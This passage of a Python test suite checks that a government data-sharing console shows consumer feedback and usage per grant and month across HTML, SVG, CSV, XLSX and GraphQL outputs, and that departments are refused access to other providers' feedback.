        "月份",
        "办理事项数",
        "不再要求提交的材料数",
        "说明",
        "访问次数",
        "返回行数",
        "返回数据项",
    ]
    assert shown[1:] == feedback_cells(api, held)
    assert LAND_MARKET_NOTE not in page.text and held["land", "market.enterprise"] not in page.text
    assert (
        'src="/console/usage/chart.svg?provider=police&amp;from=2026-11-25&amp;to=2026-12-01&amp;granularity=day'
        "&amp;table=feedback" in page.text
    )
    exported = await police.get(f"/console/usage/export.csv?{PERIOD}&table=feedback")
    assert exported.status_code == 200
    rows = list(csv.reader(io.StringIO(exported.content.decode("utf-8-sig"))))
    escaped = [[("'" + c if c == HRSS_LATER else c) for c in row] for row in shown]  # a note starting a formula
    assert rows == escaped
    book = await police.get(f"/console/usage/export.xlsx?{PERIOD}&table=feedback")
    sheet = openpyxl.load_workbook(io.BytesIO(book.content)).active
    assert [["" if v is None else str(v) for v in row] for row in sheet.iter_rows(values_only=True)] == escaped
    chart = await police.get(f"/console/usage/chart.svg?{PERIOD}&table=feedback")
    assert chart.status_code == 200 and chart.headers["content-type"].startswith(charts.SVG_MEDIA_TYPE)
    tree = ElementTree.fromstring(chart.text)
    assert "script" not in {element.tag.rsplit("}", 1)[-1] for element in tree.iter()}
    texts = [element.text for element in tree.iter() if element.text]
    for consumer in ("market", "hrss", "land"):
        assert f"{consumer} · {held[consumer, 'police.person']}" in texts
    assert {"37", "11", "12", "4", "3"} <= set(texts)  # hrss's and market's matters and documents, market's accesses
    english = await police.get(f"/console/usage?{PERIOD}&lang=en")
    shown_en = html.unescape(english.text)
    assert "Consumers' feedback, per grant and month" in shown_en and "(not reported)" in shown_en


async def test_the_office_sees_every_providers_feedback_or_the_one_it_picks(fed):
    api, held, browsers = fed
    office = browsers["office"].client
    every = html_table((await office.get(f"/console/usage?{PERIOD}")).text, "feedback")
    assert [r[0] for r in every[1:]].count(held["land", "market.enterprise"]) == 1
    assert [r for r in every[1:] if r[2] == named(api, "resource", "police.person")] == feedback_cells(api, held)
    picked = html_table((await office.get(f"/console/usage?{PERIOD}&provider=police")).text, "feedback")
    assert picked[1:] == feedback_cells(api, held)
    one = html_table((await office.get(f"/console/usage?{PERIOD}&resource=market.enterprise")).text, "feedback")
    assert {r[2] for r in one[1:]} == {named(api, "resource", "market.enterprise")}


AGAINST_POLICE = [
    "provider=police",
    "resource=police.person",
    "provider=police&resource=police.person",
    "provider=market&resource=police.person",
    "provider=&resource=police.person",
]


async def test_no_page_chart_or_export_shows_feedback_on_another_departments_resources(fed):
    """market's staff: market is the provider of market.enterprise and a consumer of police.person, with feedback of
    its own there; its usage pages show the feedback on market.enterprise and nothing on police's resource, whatever
    the question, nor do they name the grants of hrss and land."""
    api, held, browsers = fed
    market = browsers["market.staff"].client
    hidden = (MARKET_NOTE, HRSS_NOTE, HRSS_LATER, LAND_NOTE, *(held[c, "police.person"] for c in ("hrss", "land")))
    page = await market.get(f"/console/usage?{PERIOD}")
    assert [r[0] for r in html_table(page.text, "feedback")[1:]] == [held["land", "market.enterprise"]]
    assert LAND_MARKET_NOTE in page.text
    for path in (
        "/console/usage",
        "/console/usage/chart.svg",
        "/console/usage/export.csv",
        "/console/usage/export.xlsx",
    ):
        own = await market.get(f"{path}?{PERIOD}&table=feedback")
        assert own.status_code == 200, (path, own.text[:300])
        body = own.text if not path.endswith("xlsx") else xlsx_text(own.content)
        assert not any(text_ in body for text_ in hidden), path
        for attack in AGAINST_POLICE:
            answer = await market.get(f"{path}?{PERIOD}&table=feedback&{attack}")
            assert (answer.status_code, "USAGE_NOT_YOURS" in answer.text) == (403, True), (path, attack)
            assert not any(text_ in answer.text for text_ in hidden), (path, attack)


def xlsx_text(content: bytes) -> str:
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    return "\n".join(str(v) for row in sheet.iter_rows(values_only=True) for v in row if v is not None)


FEEDBACK_REPORT = """query($provider: String, $resource: String) {
  usageReport(provider: $provider, resource: $resource, from: "2026-11-25", to: "2026-12-01") {
    provider feedback { grant consumer resource month
      feedback { grant consumer provider resource period mattersHandled documentsSpared note revision }
      usage { resource department grant period ...F } } } }
fragment F on UsageRow { accesses rows values allowed partial denied failed itemsDenied masked itemsMasked }"""


async def feedback_report(api, department: str, **variables) -> dict:
    return await api.query(FEEDBACK_REPORT, department, None, variables=variables)


def graphql_rows(answer: dict) -> list[tuple]:
    assert "errors" not in answer, answer
    rows = []
    for r in answer["data"]["usageReport"]["feedback"]:
        given = r["feedback"]
        if given is not None:  # the feedback is that of the row's grant and month
            assert (given["grant"], given["consumer"], given["resource"], given["period"]) == (
                r["grant"],
                r["consumer"],
                r["resource"],
                r["month"],
            )
        assert (r["usage"]["grant"], r["usage"]["department"], r["usage"]["period"]) == (
            r["grant"],
            r["consumer"],
            r["month"] + "-01",
        )
        reported = None if given is None else (given["mattersHandled"], given["documentsSpared"], given["note"])
        rows.append((r["grant"], r["consumer"], r["month"], graphql_figures(r["usage"]), reported))
    return rows


async def test_usage_report_over_graphql_has_the_feedback_of_its_period(fed):
    api, held, _ = fed
    assert graphql_rows(await feedback_report(api, "police")) == police_rows(held)
    everything = graphql_rows(await feedback_report(api, "bigdata"))  # the coordinator: every provider's
    assert [
        r for r in everything if r[0] in {g for (_, res), g in held.items() if res == "police.person"}
    ] == police_rows(held)
    assert (held["land", "market.enterprise"], "land", "2026-11", Figures(), (5, 5, LAND_MARKET_NOTE)) in everything
    assert graphql_rows(await feedback_report(api, "bigdata", provider="police")) == police_rows(held)
    picked = graphql_rows(await feedback_report(api, "bigdata", resource="market.enterprise"))
    assert {r[0] for r in picked} >= {held["land", "market.enterprise"]} and not set(picked) & set(police_rows(held))


async def test_a_third_department_reads_no_other_departments_feedback_through_the_usage_report(fed):
    """civil provides resources of its own and has no feedback anywhere; market is police.person's consumer (with
    feedback of its own on it) and market.enterprise's provider. Neither reads feedback on police's resource through
    usageReport, by any argument."""
    api, held, _ = fed
    police_grants = [held[c, "police.person"] for c in ("market", "hrss", "land")]
    hidden = (MARKET_NOTE, HRSS_NOTE, HRSS_LATER, LAND_NOTE, LAND_MARKET_NOTE, *police_grants)
    civil = await feedback_report(api, "civil")
    assert civil["data"]["usageReport"]["feedback"] == [] and not any(
        h in json.dumps(civil, ensure_ascii=False) for h in hidden
    )
    market = await feedback_report(api, "market")
    assert [r[0] for r in graphql_rows(market)] == [held["land", "market.enterprise"]]
    assert not any(h in json.dumps(market, ensure_ascii=False) for h in hidden if h != LAND_MARKET_NOTE)
    for department in ("civil", "market"):
        for variables in (
            {"provider": "police"},
            {"resource": "police.person"},
            {"provider": department, "resource": "police.person"},
            {"provider": "police", "resource": "police.person"},
        ):
            refused = await feedback_report(api, department, **variables)
            assert refused["data"] is None, (department, variables)
            assert refused["errors"][0]["extensions"]["code"] == "USAGE_NOT_YOURS", (department, variables)
            assert not any(h in json.dumps(refused, ensure_ascii=False) for h in hidden), (department, variables)
